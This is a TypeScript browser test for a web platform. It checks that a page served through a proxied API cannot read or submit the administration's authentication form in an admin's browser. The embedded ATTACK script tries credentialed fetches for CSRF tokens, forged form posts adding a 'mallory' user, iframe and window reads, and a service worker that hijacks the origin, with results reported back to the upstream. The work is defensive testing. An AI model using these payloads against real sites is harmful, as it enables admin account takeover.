import { once } from 'node:events';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hashPassword } from '../../src/auth/password-hashes/passwords.ts';
import { basicAdapter } from '../fixtures/auth/basic-adapter.ts';
import {
  makeSampleProject,
  provideBuild,
  type RunningServer,
  removeProject,
  startBuiltServer,
  startDevelopmentServer,
} from '../http/servers.ts';
import { LIMITS } from '../limits.ts';
import { launchBrowser } from './browser.ts';

const LOCAL = 'config/autoload/local.yaml';
const FORM = '/platform/admin/authentication/new';
/** A blocked attempt may give no sign of it. */
const ATTEMPT_MILLISECONDS = 15_000;
/** On each origin. */
const ATTEMPTS = 6;
const CONFIGURATION = `${basicAdapter('admins', 'data/admins')}platform-admin: { adapter: admins }
`;
const DESCRIPTOR = {
  openapi: '3.1.0',
  info: { title: 'Shop', version: '1' },
  paths: {
    '/shop/{file}': {
      get: { operationId: 'file', parameters: [{ name: 'file', in: 'path', required: true }], responses: {} },
    },
  },
};

/** Runs in a page of the upstream, below the public origin. What it finds out and reaches goes back to the upstream. */
const ATTACK = `
const report = async (name, attempt) => {
  let result;
  try { result = await Promise.race([attempt(), new Promise((_, fail) => setTimeout(() => fail(new Error('timeout')), ${ATTEMPT_MILLISECONDS}))]); }
  catch (error) { result = String(error); }
  results[name] = result;
};
const results = {};
const read = async (origin) => {
  const page = await (await fetch(origin + '${FORM}', { credentials: 'include' })).text();
  return Object.fromEntries([...page.matchAll(/name="(version|token)" value="([^"]*)"/g)].map(([, name, value]) => [name, value]));
};
const fields = (hidden, name) => new URLSearchParams({ ...hidden, name, type: 'basic', realm: 'owned', htpasswd: 'data/' + name,
  user: 'mallory', password: 'mallory word', again: 'mallory word',
  intent: 'create-file' });
const attackOn = async (origin, label) => {
  await report(label + ': token', async () => ({ token: (await read(origin)).token ?? null }));
  await report(label + ': post', async () => {
    const answer = await fetch(origin + '${FORM}', { method: 'POST', credentials: 'include', redirect: 'manual', body: fields(await read(origin).catch(() => ({})), 'owned' + label) });
    return answer.type + ' ' + answer.status;
  });
  await report(label + ': blind post', async () => {
    const answer = await fetch(origin + '${FORM}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: fields({}, 'blind' + label) });
    return answer.type + ' ' + answer.status;
  });
  await report(label + ': frame', async () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = origin + '${FORM}';
    await new Promise((loaded) => { frame.onload = loaded; });
    return { token: frame.contentDocument?.querySelector('[name=token]')?.value ?? null };
  });
  await report(label + ': window', async () => {
    const opened = window.open(origin + '${FORM}');
    await new Promise((loaded) => setTimeout(loaded, 1500));
    return { token: opened?.document?.querySelector('[name=token]')?.value ?? null };
  });
  await report(label + ': form', async () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.name = 'target' + label;
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'POST', action: origin + '${FORM}', target: frame.name });
    for (const [name, value] of fields({}, 'form' + label)) form.append(Object.assign(document.createElement('input'), { name, value }));
    form.submit();
    await new Promise((loaded) => setTimeout(loaded, 1500));
    return 'sent';
  });
};
(async () => {
  const [, origins] = location.hash.split('#');
  if (location.search === '?worker') await report('service worker', async () => (await navigator.serviceWorker.register('/shop/worker', { scope: '/' })).scope);
  await Promise.all(decodeURIComponent(origins).split(' ').map((origin, index) => attackOn(origin, 'o' + index)));
  await fetch('/shop/report?' + encodeURIComponent(JSON.stringify(results)));
})();
`;

/** Would answer every page of the origin from then on. */
const WORKER = "onfetch = (event) => event.respondWith(new Response('owned'))";
const FILES: Readonly<Record<string, readonly [type: string, text: string]>> = {
  '/shop/page': ['text/html', `<!doctype html><body><script>${ATTACK}</script>`],
  '/shop/worker': ['text/javascript', WORKER],
};

let folder: string;
let browser: Browser;
let upstream: Server;
/** Told of what an attack has found out. */
let report: (results: Readonly<Record<string, unknown>>) => void;

beforeAll(async () => {
  upstream = createServer((request, response) => {
    const [path, query = ''] = (request.url ?? '').split('?');
    if (path === '/shop/report') report(JSON.parse(decodeURIComponent(query)));
    const [type, text] = FILES[path ?? ''] ?? ['text/plain', ''];
    response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/' }).end(text);
  }).listen(0, '127.0.0.1');
  await once(upstream, 'listening');
  const target = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  folder = makeSampleProject();
  mkdirSync(join(folder, 'data'), { recursive: true });
  mkdirSync(join(folder, 'api-descriptors/shop'), { recursive: true });
  writeFileSync(join(folder, 'api-descriptors/shop/v1.json'), JSON.stringify(DESCRIPTOR));
  writeFileSync(join(folder, 'data/admins'), `root:${hashPassword('toor', 'sha1')}\n`);
  writeFileSync(
    join(folder, LOCAL),
    `${CONFIGURATION}platform-services: { shop: { backend: proxy, target: '${target}' } }\n`,
  );
  await provideBuild(folder);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  upstream?.close();
  upstream?.closeAllConnections();
  removeProject(folder);
});

/** An administrator opens a form, then the page of the proxied API; what comes of it. */
async function attack(
  server: RunningServer,
  worker: boolean,
): Promise<readonly (readonly [name: string, result: unknown])[]> {
  const reported = new Promise<Readonly<Record<string, unknown>>>((resolve) => {
    report = resolve;
  });
  const { admin } = server;
  const context = await browser.newContext({ httpCredentials: { username: 'root', password: 'toor' } });
  try {
    const page = await context.newPage();
    // The browser remembers the credentials of that origin.
    expect((await page.goto(admin.origin + FORM))?.status()).toBe(200);
    const origins = new Set([server.origin, admin.origin, admin.origin.replace('127.0.0.1', 'localhost')]);
    // As if nothing kept the page from running: the administration itself has to hold.
    await page.route('**/shop/page*', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto(
      `${server.origin}/shop/page${worker ? '?worker' : ''}#${encodeURIComponent([...origins].join(' '))}`,
    );
    const timer = new Promise<never>((_, reject) =>
      setTimeout(() => reject(new Error('The attack did not end.')), LIMITS.wait),
    );
    const results = Object.entries(await Promise.race([reported, timer]));
    const form = await page.goto(admin.origin + FORM);
    expect([form?.status(), await form?.text()]).toEqual([200, expect.stringContaining('name="token"')]);
    // Every attempt was made.
    expect(results).toHaveLength(ATTEMPTS * origins.size + (worker ? 1 : 0));
    return results;
  } finally {
    await context.close();
  }
}

describe('a page of a proxied API, in the browser of an administrator, neither reads nor sends a form of the administration', () => {
  test.each([
    ['in production, where that has an address of its own', () => startBuiltServer(folder), true, 'basic 404'],
    // Another rule decides who may register workers: they would own the whole origin.
    ['while developing, on the same origin', () => startDevelopmentServer(folder), false, 'basic 403'],
  ] as const)('%s', async (_, start, worker, posted) => {
    const before = readFileSync(join(folder, LOCAL), 'utf8');
    const server = await start();
    try {
      const results = await attack(server, worker);
      expect(readFileSync(join(folder, LOCAL), 'utf8')).toBe(before);
      for (const [name, result] of results) {
        if (/token|frame|window/.test(name))
          expect([name, JSON.stringify(result)]).not.toEqual([name, expect.stringMatching(/[0-9]{10}\./)]);
        if (name === 'o0: post') expect([name, result]).toEqual([name, posted]);
      }
    } finally {
      await server.stop();
    }
  });
});
